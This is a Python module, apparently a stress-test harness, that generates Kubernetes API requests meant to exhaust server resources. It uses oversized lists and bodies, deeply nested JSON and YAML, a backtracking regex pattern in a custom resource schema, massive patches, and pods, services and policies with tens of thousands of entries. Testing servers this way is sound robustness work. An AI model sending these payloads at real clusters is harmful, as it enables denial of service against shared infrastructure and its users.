"""Requests that cost a server much: large lists, large bodies, bodies that are slow to read or to validate."""

import json
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

CONFIG_MAPS = "/api/v1/namespaces/default/configmaps"
PODS = "/api/v1/namespaces/default/pods"
SEARCHED = "/api/v1/namespaces/searched/configmaps"
WIDGETS = "/apis/example.com/v1/namespaces/default/widgets"
LARGE = 3_000_000
JSON, YAML, PROTOBUF = "application/json", "application/yaml", "application/vnd.kubernetes.protobuf"
TABLE = "application/json;as=Table;v=v1;g=meta.k8s.io"
METADATA = "application/json;as=PartialObjectMetadataList;v=v1;g=meta.k8s.io"
_ANY = (200, 201, 202, 400, 404, 409, 413, 415, 422, 500)


@dataclass(frozen=True, kw_only=True)
class Attack:
    """One request; the answer is read to its end, or to `ends_with`."""

    name: str
    path: str
    method: str = "GET"
    body: bytes = b""
    accept: str = JSON
    content_type: str = JSON
    headers: str = ""
    ends_with: bytes = b""
    expected: tuple[int, ...] = _ANY


def _config_map(name: str, **more: Any) -> dict[str, Any]:
    return {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": name}, **more}


def _dumped(obj: object) -> bytes:
    return json.dumps(obj, separators=(",", ":")).encode()


def prepared(objects: int) -> Iterator[Attack]:
    """Yield the requests that must have succeeded before: a namespace with `objects` config maps, a definition, targets of patches."""
    namespace = {"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": "searched"}}
    yield Attack(name="namespace", path="/api/v1/namespaces", method="POST", body=_dumped(namespace))
    for number in range(objects):
        labels = {"app": f"a{number % 100}", "tier": "backend"}
        obj = {**_config_map(f"c{number:06}"), "data": {"key": "x" * 200}}
        obj["metadata"] = {"name": f"c{number:06}", "labels": labels}
        yield Attack(name="object", path=SEARCHED, method="POST", body=_dumped(obj))
    yield Attack(
        name="definition",
        path="/apis/apiextensions.k8s.io/v1/customresourcedefinitions",
        method="POST",
        body=_dumped(definition("widgets", "Widget", SCHEMA)),
    )
    yield Attack(name="wide", path=CONFIG_MAPS, method="POST", body=_dumped(_config_map("wide", data=_keys(40_000))))
    yield Attack(name="pod", path=PODS, method="POST", body=_dumped(pod("patched", 1)))


SCHEMA = {
    "type": "object",
    "properties": {
        "spec": {
            "type": "object",
            "properties": {
                "items": {
                    "type": "array",
                    "items": {
                        "type": "object",
                        "properties": {
                            "a": {"type": "string", "pattern": "^(a+)+$"},
                            "b": {"type": "integer", "minimum": 1},
                            "c": {"type": "string", "default": "x" * 1000},
                        },
                    },
                },
                "set": {"type": "array", "items": {"type": "string"}, "x-kubernetes-list-type": "set"},
            },
        }
    },
}


def definition(plural: str, kind: str, schema: dict[str, Any]) -> dict[str, Any]:
    """Return a CustomResourceDefinition."""
    return {
        "apiVersion": "apiextensions.k8s.io/v1",
        "kind": "CustomResourceDefinition",
        "metadata": {"name": f"{plural}.example.com"},
        "spec": {
            "group": "example.com",
            "scope": "Namespaced",
            "names": {"plural": plural, "kind": kind},
            "versions": [{"name": "v1", "served": True, "storage": True, "schema": {"openAPIV3Schema": schema}}],
        },
    }


def pod(name: str, containers: int, **spec: Any) -> dict[str, Any]:
    """Return a Pod."""
    listed = [{"name": f"c{number}", "image": "i"} for number in range(containers)]
    return {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": name}, "spec": {"containers": listed, **spec}}


def _keys(count: int, value: str = "v") -> dict[str, str]:
    return {f"key-{number:06}": value for number in range(count)}


def attacks(objects: int) -> Iterator[Attack]:
    """Yield the requests, each the attacker's best of its kind."""
    yield from _lists()
    yield from _bodies()
    yield from _metadata()
    yield from _patches()
    yield from _pods()
    yield from _custom()
    yield from _others()


def _lists() -> Iterator[Attack]:
    yield Attack(name="list JSON", path=SEARCHED)
    yield Attack(name="list JSON gzip", path=SEARCHED, headers="Accept-Encoding: gzip\r\n")
    yield Attack(name="list JSON pretty", path=f"{SEARCHED}?pretty=1")
    yield Attack(name="list protobuf", path=SEARCHED, accept=PROTOBUF)
    yield Attack(name="list Table", path=SEARCHED, accept=TABLE)
    yield Attack(name="list metadata", path=SEARCHED, accept=METADATA)
    yield Attack(name="list YAML", path=SEARCHED, accept=YAML)
    yield Attack(name="list by label", path=f"{SEARCHED}?labelSelector=app%3Dnone")
    many = "%2C".join(f"v{number}" for number in range(50_000))
    yield Attack(name="list by 50,000 labels", path=f"{SEARCHED}?labelSelector=app%20in%20%28{many}%29")
    yield Attack(name="list by field", path=f"{SEARCHED}?fieldSelector=metadata.name%21%3Dnone")
    fields = "%2C".join(f"metadata.name%21%3Dv{number}" for number in range(20_000))
    yield Attack(name="list by 20,000 fields", path=f"{SEARCHED}?fieldSelector={fields}")
    yield Attack(name="list at a revision", path=f"{SEARCHED}?resourceVersion=200&resourceVersionMatch=Exact&limit=500")
    watch = f"{SEARCHED}?watch=1&sendInitialEvents=true&allowWatchBookmarks=true&resourceVersionMatch=NotOlderThan"
    watch += "&timeoutSeconds=60"
    yield Attack(name="watch", path=watch, ends_with=b"initial-events-end")
    yield Attack(name="watch Table", path=watch, accept=TABLE, ends_with=b"initial-events-end")
    yield Attack(name="watch by label", path=f"{watch}&labelSelector=app%3Dnone", ends_with=b"initial-events-end")
    yield Attack(
        name="delete collection, dry run", path=f"{SEARCHED}?dryRun=All&labelSelector=app%3Da1", method="DELETE"
    )


def _bodies() -> Iterator[Attack]:
    def created(name: str, body: bytes, content_type: str = JSON) -> Attack:
        return Attack(name=name, path=CONFIG_MAPS, method="POST", body=body, content_type=content_type)

    yield created("40,000 keys", _dumped(_config_map("k1", data=_keys(40_000))))
    yield created("40,000 keys, twice", _dumped(_config_map("k1", data=_keys(40_000))))
    yield created("150,000 keys", _dumped(_config_map("k2", data=_keys(150_000))))
    lines = "".join(f"  {key}: v\n" for key in _keys(90_000))
    head = "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: y1\n"
    yield created("YAML, 90,000 keys", f"{head}data:\n{lines}".encode(), YAML)
    yield created("YAML, 1,400,000 items", b"a: [" + b"1," * 1_400_000 + b"]", YAML)
    yield created("YAML, nested", b"a: " + b"[" * 1_400_000, YAML)
    yield created("YAML, one text", b'a: "' + b"\\x41" * 700_000 + b'"', YAML)
    yield created("YAML, wrong at the end", f"{head}data:\n{lines}\n  : : :\n".encode(), YAML)
    yield created("JSON, 1,400,000 items", b'{"a":[' + b"1," * 1_400_000 + b"1]}")
    yield created("JSON, 1,400,000 empty lists", b'{"a":[' + b"[]," * 900_000 + b"1]}")
    yield created("JSON, nested", b'{"a":' + b"[" * 2_900_000)
    yield created("JSON, nested objects", b'{"a":' * 500_000)
    yield created("JSON, wrong at the end", _dumped(_config_map("w", data=_keys(150_000)))[:-1] + b"]")
    repeated = b",".join(b'"a":"b"' for _ in range(300_000))
    yield created("JSON, a key 300,000 times", b'{"kind":"ConfigMap","apiVersion":"v1","data":{' + repeated + b"}}")
    unknown = {f"u{number}": 1 for number in range(200_000)}
    yield created("JSON, 200,000 unknown fields", _dumped({**_config_map("u"), **unknown}))
    yield created("JSON, escapes", b'{"a":"' + b"\\u0041" * 480_000 + b'"}')
    yield created("JSON, unterminated text", b'{"a":"' + b"\\" * 2_900_000)


def _metadata() -> Iterator[Attack]:
    def created(name: str, **metadata: Any) -> Attack:
        obj = _config_map("m")
        obj["metadata"] |= metadata
        return Attack(name=name, path=CONFIG_MAPS, method="POST", body=_dumped(obj))

    yield created("100,000 labels", labels=_keys(100_000))
    yield created("100,000 annotations, small", annotations=_keys(10_000))
    yield created("100,000 wrong annotations", annotations={f"-{number}": "" for number in range(100_000)})
    yield created("100,000 finalizers", finalizers=[f"example.com/f{number}" for number in range(100_000)])
    owner = {"apiVersion": "v1", "kind": "ConfigMap", "name": "o"}
    yield created("20,000 owners", ownerReferences=[{**owner, "uid": f"u{number}"} for number in range(20_000)])
    fields: dict[str, Any] = {f"f:key-{number}": {} for number in range(100_000)}
    entry = {"manager": "m", "operation": "Update", "apiVersion": "v1", "fieldsType": "FieldsV1"}
    yield created("managed fields", managedFields=[{**entry, "fieldsV1": {"f:data": fields}}])
    yield created(
        "10,000 managers", managedFields=[{**entry, "manager": f"m{n}", "fieldsV1": {}} for n in range(20_000)]
    )


def _patches() -> Iterator[Attack]:
    def patched(name: str, path: str, body: bytes, content_type: str) -> Attack:
        return Attack(name=name, path=path, method="PATCH", body=body, content_type=f"application/{content_type}")

    wide, target = f"{CONFIG_MAPS}/wide", f"{PODS}/patched"
    yield patched("merge patch", wide, _dumped({"data": _keys(40_000, "w")}), "merge-patch+json")
    yield patched("strategic merge patch", wide, _dumped({"data": _keys(40_000, "z")}), "strategic-merge-patch+json")
    small = {"data": {"key-000001": "s"}}
    yield patched("small patch of a large object", wide, _dumped(small), "merge-patch+json")
    yield patched(
        "small apply to a large object",
        f"{wide}?fieldManager=s&force=true",
        _dumped(_config_map("wide", **small)),
        "apply-patch+yaml",
    )
    applied = _dumped(_config_map("wide", data=_keys(40_000, "y")))
    yield patched("apply", f"{wide}?fieldManager=a&force=true", applied, "apply-patch+yaml")
    yield patched(
        "apply, conflicts",
        f"{wide}?fieldManager=b",
        _dumped(_config_map("wide", data=_keys(40_000, "x"))),
        "apply-patch+yaml",
    )
    operations = [{"op": "replace", "path": f"/data/key-{number:06}", "value": "r"} for number in range(10_000)]
    yield patched("JSON patch, 10,000 operations", wide, _dumped(operations), "json-patch+json")
    copies = [{"op": "copy", "from": "/data", "path": f"/metadata/annotations{n}"} for n in range(10_000)]
    yield patched("JSON patch, 10,000 copies", wide, _dumped(copies), "json-patch+json")
    tests = [{"op": "test", "path": "/data", "value": _keys(1)}] * 10_000
    yield patched("JSON patch, 10,000 tests", wide, _dumped(tests), "json-patch+json")
    inserts = [
        {"op": "add", "path": "/spec/containers/0", "value": {"name": f"x{n}", "image": "i"}} for n in range(10_000)
    ]
    yield patched("JSON patch, 10,000 containers", target, _dumped(inserts), "json-patch+json")
    listed = [{"name": f"p{number}", "image": "i"} for number in range(20_000)]
    yield patched(
        "strategic, 20,000 containers", target, _dumped({"spec": {"containers": listed}}), "strategic-merge-patch+json"
    )
    yield patched(
        "apply, 20,000 containers", f"{target}?fieldManager=c", _dumped(pod("patched", 20_000)), "apply-patch+yaml"
    )


def _pods() -> Iterator[Attack]:
    def created(name: str, obj: dict[str, Any]) -> Attack:
        return Attack(name=name, path=PODS, method="POST", body=_dumped(obj))

    yield created("5,000 containers", pod("p1", 5_000))
    yield created("50,000 containers", pod("p2", 50_000))
    environment = [{"name": f"E{number}", "value": f"$(E{number - 1})"} for number in range(40_000)]
    crowded = pod("p3", 1)
    crowded["spec"]["containers"][0]["env"] = environment
    yield created("40,000 environment variables", crowded)
    volumes = [{"name": f"v{number}", "emptyDir": {}} for number in range(40_000)]
    mounts = [{"name": f"v{number}", "mountPath": f"/m{number}"} for number in range(20_000)]
    mounted = pod("p4", 1, volumes=volumes)
    mounted["spec"]["containers"][0]["volumeMounts"] = mounts
    yield created("40,000 volumes", mounted)
    yield created(
        "50,000 tolerations", pod("p5", 1, tolerations=[{"key": f"k{n}", "operator": "Exists"} for n in range(50_000)])
    )
    spread = [
        {"maxSkew": 1, "topologyKey": f"k{n}", "whenUnsatisfiable": "DoNotSchedule", "labelSelector": {}}
        for n in range(15_000)
    ]
    yield created("15,000 spread constraints", pod("p6", 1, topologySpreadConstraints=spread))


def _custom() -> Iterator[Attack]:
    def created(name: str, spec: object) -> Attack:
        obj = {"apiVersion": "example.com/v1", "kind": "Widget", "metadata": {"name": "w"}, "spec": spec}
        return Attack(name=name, path=f"{WIDGETS}?fieldValidation=Strict", method="POST", body=_dumped(obj))

    yield created("custom, pattern", {"items": [{"a": "a" * 1_000_000 + "!"}]})
    yield created("custom, 200,000 patterns", {"items": [{"a": "a!"}] * 200_000})
    yield created("custom, 500,000 defaults", {"items": [{}] * 500_000})
    yield created("custom, 1,000 defaults", {"items": [{}] * 1_000})
    yield created("custom, set", {"set": [f"s{number}" for number in range(150_000)]})
    yield created("custom, pruned", {f"u{number}": {} for number in range(150_000)})
    properties = {f"p{number}": {"type": "string"} for number in range(30_000)}
    many = {"type": "object", "properties": {"spec": {"type": "object", "properties": properties}}}
    path = "/apis/apiextensions.k8s.io/v1/customresourcedefinitions"
    yield Attack(
        name="definition, 30,000 properties", path=path, method="POST", body=_dumped(definition("ws", "W", many))
    )
    rules = [{"rule": f"self.p{number} != 'x'"} for number in range(3_000)]
    ruled = {
        "type": "object",
        "properties": {
            "spec": {
                "type": "object",
                "properties": {k: properties[k] for k in list(properties)[:3000]},
                "x-kubernetes-validations": rules,
            }
        },
    }
    yield Attack(name="definition, 3,000 rules", path=path, method="POST", body=_dumped(definition("vs", "V", ruled)))
    deep: dict[str, Any] = {"type": "string"}
    for _ in range(100):
        deep = {
            "type": "object",
            "properties": {"d": deep, "e": {"type": "array", "items": {"type": "string", "pattern": "a{1,900}"}}},
        }
    yield Attack(
        name="definition, 100 large patterns",
        path=path,
        method="POST",
        body=_dumped(definition("ds", "D", {"type": "object", "properties": {"spec": deep}})),
    )


def _others() -> Iterator[Attack]:
    yield Attack(name="OpenAPI v2", path="/openapi/v2")
    yield Attack(
        name="OpenAPI v2 protobuf",
        path="/openapi/v2",
        accept="application/com.github.proto-openapi.spec.v2@v1.0+protobuf",
    )
    yield Attack(name="OpenAPI v3", path="/openapi/v3/apis/apps/v1")
    yield Attack(name="OpenAPI v3 core", path="/openapi/v3/api/v1")
    yield Attack(name="OpenAPI v3 custom", path="/openapi/v3/apis/example.com/v1")
    yield Attack(
        name="discovery", path="/apis", accept="application/json;g=apidiscovery.k8s.io;v=v2;as=APIGroupDiscoveryList"
    )
    yield Attack(name="metrics", path="/metrics")
    rule = {"apiGroups": [""], "resources": ["pods"], "verbs": ["get"]}
    role = {
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "kind": "ClusterRole",
        "metadata": {"name": "r"},
        "rules": [rule] * 20_000,
    }
    yield Attack(
        name="role, 20,000 rules",
        path="/apis/rbac.authorization.k8s.io/v1/clusterroles",
        method="POST",
        body=_dumped(role),
    )
    http = {
        "host": "a",
        "http": {
            "paths": [
                {"path": f"/{n}", "pathType": "Prefix", "backend": {"service": {"name": "s", "port": {"number": 80}}}}
                for n in range(13_000)
            ]
        },
    }
    ingress = {
        "apiVersion": "networking.k8s.io/v1",
        "kind": "Ingress",
        "metadata": {"name": "i"},
        "spec": {"rules": [http]},
    }
    yield Attack(
        name="ingress, 13,000 paths",
        path="/apis/networking.k8s.io/v1/namespaces/default/ingresses",
        method="POST",
        body=_dumped(ingress),
    )
    ports = [{"name": f"p{n}", "port": n + 1} for n in range(40_000)]
    service = {"apiVersion": "v1", "kind": "Service", "metadata": {"name": "s"}, "spec": {"ports": ports}}
    yield Attack(
        name="service, 40,000 ports", path="/api/v1/namespaces/default/services", method="POST", body=_dumped(service)
    )
    subsets = [
        {
            "addresses": [{"ip": f"10.{n // 65536}.{n // 256 % 256}.{n % 256}"} for n in range(60_000)],
            "ports": [{"port": 80}],
        }
    ]
    endpoints = {"apiVersion": "v1", "kind": "Endpoints", "metadata": {"name": "e"}, "subsets": subsets}
    yield Attack(
        name="endpoints, 60,000 addresses",
        path="/api/v1/namespaces/default/endpoints",
        method="POST",
        body=_dumped(endpoints),
    )
    expression = "true" + " && true" * 3_000
    policy = {
        "apiVersion": "admissionregistration.k8s.io/v1",
        "kind": "ValidatingAdmissionPolicy",
        "metadata": {"name": "p"},
        "spec": {
            "matchConstraints": {
                "resourceRules": [
                    {"apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE"], "resources": ["nodes"]}
                ]
            },
            "validations": [{"expression": expression}] * 50,
        },
    }
    yield Attack(
        name="policy, long expressions",
        path="/apis/admissionregistration.k8s.io/v1/validatingadmissionpolicies",
        method="POST",
        body=_dumped(policy),
    )
    review = {"apiVersion": "authentication.k8s.io/v1", "kind": "TokenReview", "spec": {"token": "a." * 1_400_000}}
    yield Attack(
        name="token review", path="/apis/authentication.k8s.io/v1/tokenreviews", method="POST", body=_dumped(review)
    )
    access = {
        "apiVersion": "authorization.k8s.io/v1",
        "kind": "SubjectAccessReview",
        "spec": {
            "user": "u",
            "groups": [f"g{n}" for n in range(200_000)],
            "resourceAttributes": {"verb": "get", "resource": "pods"},
        },
    }
    yield Attack(
        name="access review",
        path="/apis/authorization.k8s.io/v1/subjectaccessreviews",
        method="POST",
        body=_dumped(access),
    )
    yield Attack(name="long query", path="/api/v1/pods?" + "&".join(f"a{n}=b" for n in range(80_000)))
